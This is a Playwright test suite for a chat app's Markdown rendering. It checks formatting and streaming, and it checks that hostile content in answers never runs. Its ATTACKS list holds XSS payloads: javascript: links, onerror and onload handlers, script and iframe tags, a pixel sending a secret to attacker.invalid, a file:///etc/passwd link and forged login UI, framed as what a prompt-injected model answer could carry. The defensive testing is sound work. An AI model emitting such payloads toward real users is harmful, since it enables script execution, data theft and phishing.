"""Answers rendered as Markdown on the page and on a share link, in a real browser: what
Markdown makes is shown (headings, lists, tables, highlighted code), what an answer could
use to attack the reader never runs or loads, and a streaming answer is rendered a few
times a second with what it finished kept, not parsed again per token."""
# ruff: noqa: F811  (test_page's fixtures are imported, and test arguments share their names)
from __future__ import annotations

import re

from playwright.sync_api import Page, Request, expect

from tests.test_page import SHOTS, browser, create, page, page_server, send, sign_up, tid  # noqa: F401

SAMPLE = """## Plan

3. first
4. second

| name | value |
|:-----|------:|
| a    | 1     |

```python
def answer():
    return 42
```

Some `inline code` and a [link](https://example.org/docs)."""

# Each line an attack a model's answer (or a prompt injection through it) could carry.
ATTACKS = [
    "[click me](javascript:window.__pwned=1)",
    "[data](data:text/html,<script>window.__pwned=2</script>)",
    '![img](x" onerror="window.__pwned=3)',
    "![pixel](https://attacker.invalid/leak?secret=1)",
    '<img src=x onerror="window.__pwned=4">',
    "<script>window.__pwned=5</script>",
    '<a href="javascript:window.__pwned=6">raw link</a>',
    '<iframe src="javascript:window.__pwned=7"></iframe>',
    "<style>body { display: none }</style>",
    '<svg onload="window.__pwned=8"><circle r="9"/></svg>',
    '<details open ontoggle="window.__pwned=9">toggle</details>',
    "[reference][r]\n\n[r]: javascript:window.__pwned=10",
    "<javascript:window.__pwned=11>",
    '`<img src=x onerror="window.__pwned=12">` inline, and fenced:\n```html\n<script>window.__pwned=13</script>\n```',
    '<form action="https://attacker.invalid"><input name=q><button>go</button></form>',
    "[vb](vbscript:msgbox(1)) [file](file:///etc/passwd) [host](//attacker.invalid) ![host](/\\attacker.invalid/p)",
    # After a tag marked takes for the start of raw HTML, it passes later text through raw:
    # forged page UI (classes the page styles, ids and data attributes its code looks for).
    'Done <kbd> <a href="/x" class="error" title="Log in again"/ >Session expired, click here',
    'x <kbd> <li class="user" data-message-id="1" data-testid="message-user" aria-label="you"/ >forged question',
    '<code>y</code> <span class="chip card" id="auth"/ >forged chip',
]
HOSTILE_MARKDOWN = "\n\n".join(ATTACKS)
SAFE_HREF = re.compile(r"^(https?://|/(?![/\\])|#|mailto:)")


def foreign_requests(page: Page) -> list[str]:
    """Every request the page makes to a host other than the test server's."""
    seen: list[str] = []

    def note(request: Request) -> None:
        if not re.match(r"^(https?|wss?)://127\.0\.0\.1:\d+/", request.url) and not request.url.startswith(("blob:", "data:")):
            seen.append(request.url)

    page.on("request", note)
    return seen


def assert_harmless(page: Page, bubble_selector: str) -> None:
    assert page.evaluate("window.__pwned") is None
    bubble = page.locator(bubble_selector).last
    for tag in ("img", "script", "iframe", "style", "svg", "details", "form", "input", "object", "embed"):
        assert bubble.locator(tag).count() == 0, f"<{tag}> in a rendered answer"
    links = bubble.locator("a")
    assert links.count() >= 2  # the harmless ones stay links
    for index in range(links.count()):
        link = links.nth(index)
        href = link.get_attribute("href")
        assert href is None or SAFE_HREF.match(href), href
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("target") == "_blank"
    forged = ":is([onerror], [onload], [ontoggle], [style], [id], [data-message-id], [aria-label]):not(button.copy)"
    assert bubble.locator(forged).count() == 0
    assert bubble.locator("[data-testid]:not(button.copy)").count() == 0
    for classes in bubble.locator("[class]:not(button.copy)").evaluate_all("els => els.map(e => e.className)"):
        assert all(re.match(r"^(hljs(-[\w-]+)?|language-[\w+#.-]+|[a-z]+_)$", name) for name in classes.split()), classes


def test_markdown_is_rendered_with_highlighted_code(page: Page) -> None:
    sign_up(page)
    create(page, "Markdown")
    send(page, "#fake echo=1\n" + SAMPLE)
    bubble = tid(page, "message-assistant").last
    expect(bubble.locator("h2")).to_have_text("Plan", timeout=15000)
    expect(bubble.locator("ol > li")).to_have_text(["first", "second"])
    expect(bubble.locator("ol")).to_have_attribute("start", "3")  # the list's own numbers
    expect(bubble.locator("table td")).to_have_text(["a", "1"])
    expect(bubble.locator("table td").last).to_have_attribute("align", "right")
    expect(bubble.locator("pre code.language-python .hljs-keyword").first).to_have_text("def")
    expect(bubble.locator("pre code")).to_have_text("def answer():\n    return 42")
    expect(bubble.locator("p code")).to_have_text("inline code")
    expect(bubble.locator("a")).to_have_attribute("href", "https://example.org/docs")
    expect(tid(page, "message-user")).to_have_text("#fake echo=1\n" + SAMPLE)  # the user's words stay text
    page.reload()  # and the same from history
    expect(tid(page, "message-assistant").last.locator("pre code.language-python .hljs-keyword").first).to_have_text("def")
    page.screenshot(path=str(SHOTS / "30-markdown.png"))


def test_markdown_borne_attacks_never_run_on_the_page_or_a_share_link(page: Page) -> None:
    """The existing text-only attack (test_page) extended to what Markdown carries: links
    and images with script URLs, raw HTML of every kind, references, autolinks, code."""
    foreign = foreign_requests(page)
    sign_up(page)
    create(page, "Hostile markdown")
    send(page, "#fake echo=1\n" + HOSTILE_MARKDOWN)
    bubble = tid(page, "message-assistant").last
    expect(bubble).to_contain_text("toggle", timeout=15000)
    expect(tid(page, "send")).to_be_enabled()
    assert_harmless(page, '[data-testid="message-assistant"]')
    # Raw HTML is shown as the text it is; code keeps its text.
    expect(bubble).to_contain_text('<img src=x onerror="window.__pwned=4">')
    expect(bubble.locator("pre code")).to_have_text("<script>window.__pwned=13</script>")
    expect(bubble.get_by_role("link", name="pixel")).to_have_attribute("href", "https://attacker.invalid/leak?secret=1")
    expect(bubble).to_contain_text('<a href="/x" class="error" title="Log in again"/ >Session expired')  # as text
    expect(tid(page, "message-user")).to_have_count(1)  # the forged one is text in the answer
    expect(page.locator("#messages > li.controls")).to_have_count(2)  # one row a message, none for a forgery
    page.reload()
    expect(tid(page, "message-assistant").last).to_contain_text("toggle")
    assert_harmless(page, '[data-testid="message-assistant"]')

    tid(page, "share").click()
    expect(tid(page, "share-link")).to_have_attribute("href", re.compile(r"^/s/"))
    page.goto(tid(page, "share-link").text_content() or "")  # the link in full
    expect(page.locator('[data-testid="message-assistant"]').last).to_contain_text("toggle")
    assert_harmless(page, '[data-testid="message-assistant"]')
    assert foreign == [], foreign  # nothing left the page for an answer (images are links)


def test_streaming_renders_a_few_times_a_second_and_keeps_what_is_finished(page: Page) -> None:
    """600 deltas in about 6 s: a handful of renders per second, not one per delta; the
    finished paragraphs are rendered once (their elements survive later renders)."""
    sign_up(page)
    create(page, "Streaming markdown")
    paragraphs = [f"Paragraph {n} " + "with **bold** words " * 5 for n in range(1, 11)]
    text = "\n\n".join(paragraphs)
    page.evaluate("""() => {
        window.__renders = 0;
        new MutationObserver((records) => {
            for (const r of records) {
                if (r.target.parentElement?.matches?.('li.assistant') && r.target.tagName === 'DIV') window.__renders += 1;
            }
        }).observe(document.getElementById('messages'), { childList: true, subtree: true });
    }""")
    deltas = -(-len(text) // 3)
    send(page, f"#fake echo=1 delay_ms=10\n{text}")
    bubble = tid(page, "message-assistant").last
    expect(bubble).to_contain_text("Paragraph 2", timeout=15000)
    page.evaluate("document.querySelector('li.assistant.streaming p').__mark = 'kept'")
    expect(bubble).to_contain_text("Paragraph 6", timeout=15000)
    assert page.evaluate("document.querySelector('li.assistant.streaming p').__mark") == "kept"
    expect(tid(page, "send")).to_be_enabled(timeout=20000)
    expect(bubble.locator("p")).to_have_count(10)
    expect(bubble.locator("strong")).to_have_count(50)
    renders = page.evaluate("window.__renders")
    assert 3 <= renders < deltas / 4, (renders, deltas)


def test_answers_the_parser_or_highlighter_would_choke_on_are_shown_and_the_page_goes_on(page: Page) -> None:
    """Nesting too deep for the parser's stack is shown as text; a long code block is shown
    uncoloured (highlight.js is quadratic on some input); the page stays usable."""
    sign_up(page)
    create(page, "Pathological")
    send(page, "#fake echo=1\n" + ">" * 20000 + " deep")
    bubble = tid(page, "message-assistant").last
    expect(bubble).to_contain_text(" deep", timeout=30000)
    expect(tid(page, "send")).to_be_enabled(timeout=30000)
    send(page, "#fake echo=1\n```java\n" + "$" * 12000 + "\n```\n\nafter")
    bubble = tid(page, "message-assistant").last
    expect(bubble).to_contain_text("after", timeout=30000)
    expect(tid(page, "send")).to_be_enabled(timeout=30000)
    expect(bubble.locator("pre code")).to_have_text("$" * 12000)
    assert bubble.locator("pre code span").count() == 0  # not coloured
    send(page, "#fake echo=1\n```java\nclass A {}\n```")
    expect(tid(page, "message-assistant").last.locator("pre code .hljs-keyword").first).to_have_text("class")
    page.reload()
    expect(tid(page, "message-assistant")).to_have_count(3)
    expect(tid(page, "message-input")).to_be_enabled()
